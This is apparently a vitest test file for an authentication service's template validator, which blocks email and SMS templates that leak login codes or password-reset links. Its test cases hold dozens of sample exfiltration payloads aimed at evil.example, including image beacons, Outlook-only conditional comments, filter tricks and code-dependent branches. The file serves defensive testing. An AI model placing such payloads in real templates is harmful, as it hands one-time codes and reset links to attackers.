import { emailTemplates, smsTemplates } from '@gatehouse/contract/admin/templates/templates.ts'
import { requestRequestPassword } from '@gatehouse/contract/signin.ts'
import sql from 'sql-template-tag'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { aPerson } from '../../test/builders.ts'
import { anAdministrator } from '../../test/console.ts'
import { startTestServer, type TestServer, type Visitor } from '../../test/server.ts'
import { newId } from '../crypto/ids.ts'
import { templateProblems } from './template-problems.ts'

const reasonsOf = async (channel: 'email' | 'sms', name: string, body: string) =>
  (await templateProblems({ channel, name, subject: 'Hello', body })).map(({ reason, from, to }) => [
    reason,
    body.slice(from, to),
  ])

const CODE = '<p>{{ code }}</p>'
const LINK = '<a href="{{ link }}">Open</a>'

describe('an email is refused with its code in the address', () => {
  test.each([
    ['of a picture', '<img src="https://evil.example/?c={{ code }}">'],
    ['of a link', '<a href="https://evil.example/{{ code }}">'],
    ['of the portal itself', '<a href="{{ portal }}/{{ code }}">'],
    ['of a background', '<td background="https://evil.example/{{ code }}">'],
    ['in another attribute', '<p title="{{ code }}">'],
    ['of a mailto link', '<a href="mailto:a@evil.example?subject={{code}}">'],
  ])('%s', async (_where, tag) => {
    expect(await reasonsOf('email', 'login-otp', `${CODE}${tag}`)).toContainEqual(['secret_address', tag])
  })

  test('of a picture or link that only old Outlooks read', async () => {
    const comment = '<!--[if mso]><img src="https://evil.example/?c={{ code }}"><![endif]-->'
    expect(await reasonsOf('email', 'login-otp', CODE + comment)).toEqual([['secret_address', comment]])
    const filtered = '<!--[if mso]><v:image src="https://evil.example/?c={{ code | strip }}"/><![endif]-->'
    expect(await reasonsOf('email', 'login-otp', CODE + filtered)).toEqual([['secret_address', filtered]])
    const hidden = `<!--[if mso]><img src="https://evil.example/?c=' href='{{ code }}'"><![endif]-->`
    expect(await reasonsOf('email', 'login-otp', CODE + hidden)).toEqual([['secret_address', hidden]])
  })

  test.each([
    ['in a text that a mail program turns into an address', 'https://evil.example/?c={{ code }}'],
    ['in such a text without a scheme', 'evil.example/{{ code }}'],
    ['as the host of an address', '{{ code }}.evil.example'],
    ['cut by a filter', 'https://evil.example/{{ code | truncate: 3, "" }}'],
    ['as the default of another value', 'https://evil.example/{{ clientName | default: code }}'],
    ['across tags', '<b>https://evil.example/</b><i>{{ code }}</i>'],
    ['in a branch', '{% if clientName %}https://evil.example/?{{ code }}{% endif %}'],
  ])('%s', async (_where, text) => {
    expect(await reasonsOf('email', 'login-otp', `${CODE}<p>${text}</p>`)).toEqual([
      ['secret_beside', `${CODE}<p>${text}</p>`],
    ])
  })

  test.each([
    ['a comparison', '{% if code contains "4" %}<img src="https://evil.example/4">{% endif %}'],
    ['a case', '{% case code %}{% when "482913" %}<img src="https://evil.example/482913">{% endcase %}'],
    ['a comparison with another value', '{% if firstName == code %}x{% endif %}'],
  ])('or with a picture that depends on the code by %s', async (_how, condition) => {
    const [first] = await reasonsOf('email', 'login-otp', CODE + condition)
    expect(first).toEqual(['secret_condition', 'code'])
  })
})

describe('a link may be a whole address or text', () => {
  test.each([
    ['as a button', LINK],
    ['as text', '<p>Open {{ link }}, please.</p>'],
    ['as both', `${LINK}<p>({{ link }})</p>`],
    [
      'as a button of old Outlooks',
      `${LINK}<!--[if mso]><v:roundrect href="{{ link }}">Open</v:roundrect><![endif]-->`,
    ],
  ])('%s', async (_how, body) => {
    expect(await reasonsOf('email', 'reset-password', body)).toEqual([])
  })

  test.each([
    '<img src="{{ link }}">',
    '<a href="https://evil.example/?to={{ link }}">',
    '<a href="{{ link }}?c=1">',
    '<a title="{{ link }}" href="https://portal.example.com/">',
  ])('but not part of %s', async (tag) => {
    expect(await reasonsOf('email', 'reset-password', LINK + tag)).toContainEqual(['secret_address', tag])
  })
})

describe('an SMS must keep addresses and codes apart', () => {
  test.each([
    ['{{ code }} is your code for {{ brand }}.', []],
    ['Code:{{ code }}. @portal.example.com #{{ code }}', []],
    ['Your code: {{ code }} https://portal.example.com', []],
    ['{{ code }} https://evil.example/{{ code }}', ['secret_beside']],
    ['{{ code }} evil.example/?{{ code }}', ['secret_beside']],
    ['{{ code }}{% if code == "1" %}x{% endif %}', ['secret_condition']],
  ])('%s', async (body, reasons) => {
    expect((await reasonsOf('sms', 'login-otp', body)).map(([reason]) => reason)).toEqual(reasons)
  })

  test('and use a link unchanged', async () => {
    expect(await reasonsOf('sms', 'reset-password', 'Open {{ link }} now')).toEqual([])
    const body = 'Open {{ link }} or https://evil.example/?u={{ link }}'
    expect(await reasonsOf('sms', 'reset-password', body)).toEqual([['secret_beside', body]])
  })
})

describe('in the console', () => {
  let server: TestServer
  let admin: Visitor
  beforeAll(async () => {
    server = await startTestServer()
    admin = (await anAdministrator(server)).visitor
  })
  afterAll(() => server.close())

  const FORM = { Application: 'All', Client: 'All', TemplateId: 'T', Status: 'ACTIVE' }

  test('a template that sends codes to a stranger is refused', async () => {
    const name = { ...FORM, TemplateName: 'login-otp' }
    const Template = '<p>{{ code }}</p><img src="https://evil.example/?c={{ code }}">'
    const email = await admin.call(emailTemplates.create, { ...name, Subject: 'Hello', Template })
    expect(email).toMatchObject({ status: 400 })
    expect(email.msg).toContain('{{ code }} cannot be used in an attribute')
    const sms = await admin.call(smsTemplates.create, {
      ...name,
      Template: '{{ code }} https://evil.example/{{ code }}',
    })
    expect(sms).toMatchObject({ status: 400 })
    const { rows } = await server.db.execute(sql`select 1 from templates`)
    expect(rows).toEqual([])
  })

  test.each([
    ['in the source', '<a href="{{ link }}">Open</a><img src="https://evil.example/?{{ link }}">'],
    [
      'by a hyphen that joins words',
      '<a href="{{ link }}">Open</a> https://evil.example/? {{- link | truncate: 80, "" -}}',
    ],
    [
      'by a condition within a tag',
      '<a href="{{ link }}">Open</a><img {% if true %}src="https://evil.example/?{{ link | truncate: 80, "" }}"{% endif %}>',
    ],
    ['by the values of a person', '<a href="{{ link }}">Open</a><img src="https://evil.example/?{{ firstName }}">'],
  ])('an old one is not used, and the attempt gives the reason: %s', async (_how, body) => {
    await server.db.execute(sql`delete from templates`)
    await server.db.execute(sql`
      insert into templates (id, channel, template_id, name, subject, body)
      values (${newId()}, 'email', 'T', 'reset-password', 'From a template', ${body})`)
    const person = await aPerson(server)
    await server.visitor().call(requestRequestPassword, { email: person.email })
    const [mail] = await server.inbox(person.email)
    const isHarmless = body.includes('firstName')
    expect(mail?.subject).toBe(isHarmless ? 'From a template' : 'Choose a new password for EAI')
    const { rows } = await server.db.execute<{ answer: string }>(sql`
      select a.answer from messages m join delivery_attempts a on a.outbox_id = m.id where m.recipient = ${person.email}`)
    if (!isHarmless) expect(rows[0]?.answer).toContain('The template could not be used: ')
  })
})
